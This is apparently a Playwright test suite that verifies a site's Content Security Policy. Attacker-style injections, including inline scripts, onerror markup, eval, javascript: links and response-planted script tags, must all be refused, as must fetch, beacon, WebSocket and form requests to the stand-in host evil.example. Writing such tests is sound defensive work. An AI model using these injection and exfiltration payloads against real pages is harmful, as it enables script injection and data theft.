import { expect, inject, test } from 'vitest'
import { visitor } from '../visitor.ts'

type Attempts = Readonly<Record<string, () => unknown>>
type Attack = {
  attempts: Attempts
  readonly add: <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    set: (element: HTMLElementTagNameMap[Name]) => void,
  ) => HTMLElementTagNameMap[Name]
}
type Attacked = { readonly attack: Attack }

/** Functions that run in the page one after another; each uses what the previous one added to the page. */
const PARTS = [plantAttack, addScripts, addOthers]

function plantAttack() {
  const add = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    set: (element: HTMLElementTagNameMap[Name]) => void,
  ) => {
    const element = document.createElement(name)
    set(element)
    document.body.append(element)
    return element
  }
  Object.assign(window, { attack: { attempts: {}, add } })
}

function addScripts() {
  const { attack } = window as unknown as Attacked
  const { add } = attack
  const strike = 'struck()'
  const attempts: Attempts = {
    'inline script by text': () => add('script', (script) => script.append(strike)),
    'inline script by property': () => add('script', (script) => void (script.text = strike)),
    'script with a wrong nonce': () =>
      add('script', (script) => {
        script.nonce = 'AAAA'
        script.append(strike)
      }),
    'script of another site': () =>
      add('script', (script) => void (script.src = 'https://evil.example/x.js')),
    'script from a data address': () =>
      add('script', (script) => script.setAttribute('src', `data:text/javascript,${strike}`)),
    'markup with a handler': () =>
      add('div', (div) => void (div.innerHTML = `<img src="data:," onerror="${strike}">`)),
    'markup written whole': () => document.write(`<script>${strike}</script>`),
    'markup beside': () =>
      document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="${strike}">`),
    'a handler as an attribute': () =>
      add('button', (button) => button.setAttribute('onclick', strike)).click(),
    'a document in a frame': () =>
      add('iframe', (frame) => void (frame.srcdoc = `<script>parent.${strike}</script>`)),
    'a page in a frame': () => add('iframe', (frame) => void (frame.src = 'https://evil.example/')),
    eval: () => (window as unknown as Record<'eval', (text: string) => unknown>).eval(strike),
    'a function of text': () => new Function(strike)(),
    'a timer of text': () => setTimeout(strike),
    'a module of data': () =>
      import(/* @vite-ignore */ `data:text/javascript,window.${strike}`).catch((error: unknown) =>
        Promise.reject(error),
      ),
    'a worker of another site': () => new Worker('https://evil.example/worker.js'),
  }
  attack.attempts = { ...attack.attempts, ...attempts }
}

function addOthers() {
  const { attack } = window as unknown as Attacked
  const { add } = attack
  const strike = 'struck()'
  const attempts: Attempts = {
    'a style element': () =>
      add('style', (style) => style.append('body { outline: 7px solid red }')),
    'a style attribute': () =>
      add('p', (paragraph) => paragraph.setAttribute('style', 'outline: 7px solid red')),
    'a style sheet of another site': () =>
      add('link', (link) => {
        link.rel = 'stylesheet'
        link.href = 'https://evil.example/x.css'
      }),
    'a picture of another site': () =>
      add('img', (picture) => void (picture.src = 'https://evil.example/x.png')),
    'a call to another site': () => fetch('https://evil.example/'),
    'a beacon to another site': () => navigator.sendBeacon('https://evil.example/', 'x'),
    'a socket to another site': () => new WebSocket('wss://evil.example/'),
    'a form to another site': () =>
      add('form', (form) => {
        form.action = 'https://evil.example/'
        form.method = 'post'
      }).submit(),
    'another base': () => add('base', (base) => void (base.href = 'https://evil.example/')),
    'a plug-in': () => add('object', (plugin) => void (plugin.data = 'https://evil.example/x.swf')),
    'a link that is a script': () =>
      add('a', (link) => void (link.href = `javascript:${strike}`)).click(),
    'a policy of their own': () =>
      (
        window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): unknown }
        }
      ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
  }
  attack.attempts = { ...attack.attempts, ...attempts }
}

/**
 * Tries what an attacker who can write into a page would do. The policy must stop each attempt at once, by an exception or a report; otherwise `struck`
 * is called. The attempts run from a timer, because code that a debugger evaluates is exempt from the policy.
 */
function attackPage(): Promise<readonly { readonly attempt: string; readonly outcome: string }[]> {
  const { attempts } = (window as unknown as Attacked).attack
  const tried = (attempt: string) =>
    new Promise<string>((settle) => {
      const done = (outcome: string) => {
        removeEventListener('securitypolicyviolation', refused)
        clearTimeout(patience)
        settle(outcome)
      }
      const refused = (event: Event) =>
        done(`refused by ${(event as SecurityPolicyViolationEvent).effectiveDirective}`)
      const patience = setTimeout(() => done('no one objected'), 5000)
      addEventListener('securitypolicyviolation', refused)
      Object.assign(window, { struck: () => done('STRUCK') })
      setTimeout(() => {
        try {
          Promise.resolve(attempts[attempt]?.()).catch((error: unknown) =>
            done(`threw ${(error as Error).name}`),
          )
        } catch (error) {
          // A violation is reported in addition to the exception. The pause prevents the next attempt from taking this report as its own.
          setTimeout(() => done(`threw ${(error as Error).name}`), 50)
        }
      })
    })
  return Object.keys(attempts).reduce<Promise<{ attempt: string; outcome: string }[]>>(
    async (before, attempt) => [...(await before), { attempt, outcome: await tried(attempt) }],
    Promise.resolve([]),
  )
}

test.each(['/', '/search?q=driver', '/login', '/nowhere', '/legal/privacy-policy'])(
  'S-49 anyone who can write into %s runs no script, sets no style and sends nothing away',
  async (path) => {
    const { page, close } = await visitor()
    const away: string[] = []
    // The policy must stop such requests before they reach this route, which records them.
    await page.route(/evil\.example/, (route) => {
      away.push(route.request().url())
      return route.abort()
    })
    await page.goto(path)
    for (const part of PARTS) await page.evaluate(part)
    const outcomes = await page.evaluate(attackPage)
    expect(outcomes.length).toBeGreaterThan(25)
    expect(outcomes.filter(({ outcome }) => !/^(refused|threw)/.test(outcome))).toEqual([])
    expect(away).toEqual([])
    expect(page.url()).toBe(inject('origin') + path)
    await page.evaluate(() => document.querySelector('base')?.remove())
    expect(
      await page.evaluate(() => [
        getComputedStyle(document.body).outlineWidth,
        document.baseURI.startsWith(location.origin),
      ]),
    ).toEqual([expect.not.stringMatching('7px'), true])
    await close()
  },
)

/** Addresses of our origin whose words a stranger can choose: documents, feeds, and answers of calls. */
const OWN_DOCUMENTS = [
  '/search?q=struck()',
  '/feed.rss?q=struck()',
  '/feed.json?q=struck()',
  '/sitemap.xml',
  '/robots.txt',
  '/config.json',
  '/healthz',
  '/portal/v1/typeahead/titles?query=struck()',
  '/portal/v1/VacancyDetail/struck()',
  '/api/v1/struck()',
  '/struck()',
]

/** Records whether each script that the markup names was run. A script that cannot be parsed counts, because the browser tried. */
function watchScripts() {
  const ran: Record<string, boolean> = {}
  Object.assign(window, { ran, struck: () => Object.assign(ran, { struck: true }) })
  for (const outcome of ['load', 'error'] as const)
    document.addEventListener(
      outcome,
      ({ target }) => {
        const name = target instanceof HTMLScriptElement && target.dataset.planted
        if (name) ran[name] = outcome === 'load'
      },
      true,
    )
}

test.each(['/', '/search?q=driver', '/legal/privacy-policy'])(
  'S-49 markup that gets into %s on its way makes no document, feed or answer of ours a script',
  async (path) => {
    const { page, close } = await visitor()
    await page.addInitScript(watchScripts)
    await page.route(inject('origin') + path, async (route) => {
      const response = await route.fetch()
      const html = await response.text()
      const [own = ''] = /\/assets\/[^"]+\.js/.exec(html) ?? []
      const planted = [own, ...OWN_DOCUMENTS].flatMap((address) =>
        ['text/javascript', 'module'].map(
          (type) =>
            `<script type="${type}" src="${address}" data-planted="${type} ${address}"></script>`,
        ),
      )
      const { 'content-encoding': _encoding, ...headers } = response.headers()
      await route.fulfill({
        response,
        headers,
        body: html.replace(
          '</body>',
          `${planted.join('')}<script>struck()</script><img src="data:," onerror="struck()"></body>`,
        ),
      })
    })
    await page.goto(path)
    const outcomes = () =>
      page.evaluate(() => (window as unknown as { ran: Record<string, boolean> }).ran)
    await expect
      .poll(async () => Object.keys(await outcomes()).length, { timeout: 10_000 })
      .toBeGreaterThanOrEqual(2 * OWN_DOCUMENTS.length + 2)
    const ran = Object.entries(await outcomes()).flatMap(([name, isRun]) => (isRun ? name : []))
    // A file of the build shows that the test can tell a script that runs.
    expect(ran.filter((name) => !/ \/assets\//.test(name))).toEqual([])
    expect(ran.length).toBeGreaterThan(0)
    await close()
  },
)
